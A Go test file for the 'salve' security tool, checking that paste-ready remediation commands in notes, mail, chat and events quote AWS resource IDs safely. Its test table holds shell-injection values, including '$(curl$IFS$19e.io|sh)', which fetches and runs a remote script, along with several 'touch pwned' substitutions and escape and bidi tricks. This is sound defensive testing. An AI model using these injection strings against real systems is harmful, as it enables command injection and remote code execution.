package notice_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/salve-security/salve/internal/note"
	"github.com/salve-security/salve/internal/notice"
	"github.com/salve-security/salve/internal/run"
)

// pasted runs a command as a person would who copies it, and returns the
// arguments that salve gets. Nothing else may happen.
func pasted(t *testing.T, command string) []string {
	t.Helper()
	if out, err := exec.CommandContext(t.Context(), "sh", "-n", "-c", command).CombinedOutput(); err != nil {
		t.Fatalf("%s: %v: %s", command, err, out)
	}
	cmd := exec.CommandContext(t.Context(), "sh", "-c", `salve() { printf '%s\n' "$@"; }; `+command)
	cmd.Dir = t.TempDir()
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v: %s", command, err, out)
	}
	if made, err := os.ReadDir(cmd.Dir); err != nil || len(made) > 0 {
		t.Errorf("%s made %v (%v)", command, made, err)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
}

// between is the part of a text after one mark and before the next.
func between(t *testing.T, text, before, after string) string {
	t.Helper()
	_, rest, found := strings.Cut(text, before)
	if !found {
		t.Fatalf("no %q in %q", before, text)
	}
	part, _, _ := strings.Cut(rest, after)
	return part
}

// shown is the command in everything that people and programs get of a run
// that waits for approval.
func shown(t *testing.T, r *run.Run) map[string]string {
	t.Helper()
	n := notice.Of(r)
	_, mail := notice.Email(n)
	chat, err := notice.Chat(n)
	if err != nil {
		t.Fatal(err)
	}
	machine, err := notice.Machine(n)
	if err != nil {
		t.Fatal(err)
	}
	var message struct{ Content struct{ NextSteps []string } }
	if err := json.Unmarshal([]byte(chat), &message); err != nil {
		t.Fatal(err)
	}
	var event struct {
		ToDo string `json:"to_do"`
	}
	if err := json.Unmarshal([]byte(machine), &event); err != nil {
		t.Fatal(err)
	}
	return map[string]string{
		"note": between(t, note.Note(note.Of(r)), "To do: ", "\n"),
		"mail": between(t, mail, "What the security team can do:\n  ", "\n"),
		"chat": strings.Trim(message.Content.NextSteps[0], "`"), "events": event.ToDo,
	}
}

// TestCommandsArePasted: whatever a member account calls its resources, a
// command that people paste is about that resource, or shows the run. It never
// does anything else, and never is a part of a command.
func TestCommandsArePasted(t *testing.T) {
	const user = "arn:aws:iam::222222222222:user/"
	tests := map[string]struct {
		id   string
		show map[string]string // where the run is shown instead, and why
	}{
		"a bucket":       {"arn:aws:s3:::logs-eu", nil},
		"a long path":    {user + strings.Repeat("abcdefgh/", 12) + "bob", map[string]string{"note": "170 characters"}},
		"longer":         {user + strings.Repeat("abcdefgh/", 50) + "bob", everywhere()},
		"substitution":   {user + "$(touch${IFS}pwned)/bob", nil},
		"pipe":           {user + "$(curl$IFS$19e.io|sh)/bob", nil},
		"backticks":      {user + "`touch pwned`/bob", map[string]string{"chat": "they end the code there"}},
		"semicolon":      {user + ";touch pwned;/bob", nil},
		"background":     {user + "&touch pwned&/bob", map[string]string{"chat": "an ampersand is an entity there"}},
		"and":            {user + "&&touch pwned", map[string]string{"chat": "an ampersand is an entity there"}},
		"redirection":    {user + ">pwned", map[string]string{"chat": "it ends a tag there"}},
		"quote":          {user + "';touch pwned;'/bob", nil},
		"double quote":   {user + `"$(touch pwned)"/bob`, nil},
		"backslash":      {user + `\';touch pwned;\'`, nil},
		"option":         {"-x$(touch pwned)", nil},
		"home":           {"~root", nil},
		"pattern":        {user + "[a-z]*?/{a,b}", nil},
		"underscores":    {user + "_a_b_", nil},
		"spaces":         {user + "a b", nil},
		"two spaces":     {user + "a  b", everywhere()},
		"line break":     {user + "a\ntouch pwned\n", everywhere()},
		"escape":         {user + "\x1b[2J\u009b;touch pwned", everywhere()},
		"bidi":           {user + "\u202Ebob", everywhere()},
		"letters":        {user + "größe/価格", nil},
		"a web site":     {"arn:aws:s3:::www.example.org", map[string]string{"mail": "a mail program makes a link of it"}},
		"wakes everyone": {user + "@channel", map[string]string{"chat": "a mention is disarmed there"}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			r := &run.Run{ID: "r1", Status: run.StatusAwaitingApproval, Key: run.Key{
				Control: "IAM.8", Account: "222222222222", Resource: tc.id,
			}}
			for where, command := range shown(t, r) {
				want := []string{"apply", "IAM.8", tc.id, "--account", "222222222222", "--yes"}
				if tc.show[where] != "" {
					want = []string{"show", "r1"}
				}
				if d := cmp.Diff(want, pasted(t, command)); d != "" {
					t.Errorf("the %s says %s (-want +got):\n%s", where, command, d)
				}
			}
		})
	}
}

// TestPlainCommandsArePlain: what needs no quotes has none.
func TestPlainCommandsArePlain(t *testing.T) {
	r := &run.Run{ID: "r1", Status: run.StatusAwaitingApproval, Key: run.Key{
		Control: "S3.8", Account: "222222222222", Resource: "arn:aws:s3:::logs-eu",
	}}
	for where, command := range shown(t, r) {
		if command != "salve apply S3.8 arn:aws:s3:::logs-eu --account 222222222222 --yes" {
			t.Errorf("the %s says %s", where, command)
		}
	}
}

func everywhere() map[string]string {
	const why = "the id is not shown whole"
	return map[string]string{"note": why, "mail": why, "chat": why, "events": why}
}

// TestApplyCommandNamesTheRegion: where the resource does not, another Region
// would be changed. A global setting has none.
func TestApplyCommandNamesTheRegion(t *testing.T) {
	const account = "AWS::::Account:222222222222"
	for name, tt := range map[string]struct {
		scope, resource string
		want            bool
	}{
		"an account":      {"us-west-2", account, true},
		"a bucket":        {"us-west-2", "arn:aws:s3:::logs", true},
		"an ARN says it":  {"us-west-2", "arn:aws:kms:us-west-2:222222222222:key/k", false},
		"it is of no one": {"global", account, false},
	} {
		r := &run.Run{Region: "us-west-2", Key: run.Key{
			Account: "222222222222", Scope: tt.scope, Control: "EC2.7", Resource: tt.resource,
		}}
		if got := note.ApplyCommand(r, ""); strings.Contains(got, " --region us-west-2 ") != tt.want {
			t.Errorf("%s: %s", name, got)
		}
	}
}
